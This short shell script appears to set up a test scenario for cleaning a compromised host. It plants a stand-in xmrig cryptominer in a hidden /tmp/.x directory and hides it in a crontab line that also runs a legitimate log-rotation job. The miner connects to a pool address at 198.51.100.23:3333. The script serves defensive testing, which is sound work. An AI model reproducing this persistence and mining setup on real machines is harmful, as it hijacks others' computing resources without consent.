# One crontab line runs the shop's own job and then the miner: what is good in it must not go with what is bad.
mkdir -m 700 /tmp/.x && chown 1002:1002 /tmp/.x
stand_in miner /tmp/.x/xmrig 1002
printf '#!/bin/sh\nexec true\n' > /opt/erp/rotate-logs && chmod 755 /opt/erp/rotate-logs
crontab_of deploy 1002 '0 3 * * * /opt/erp/export --all' \
    '*/15 * * * * /opt/erp/rotate-logs; /tmp/.x/xmrig -o 198.51.100.23:3333 >/dev/null 2>&1'
as 1002 /tmp/.x/xmrig -o 198.51.100.23:3333 --donate-level 1 -k
wait_for /tmp/.x/xmrig
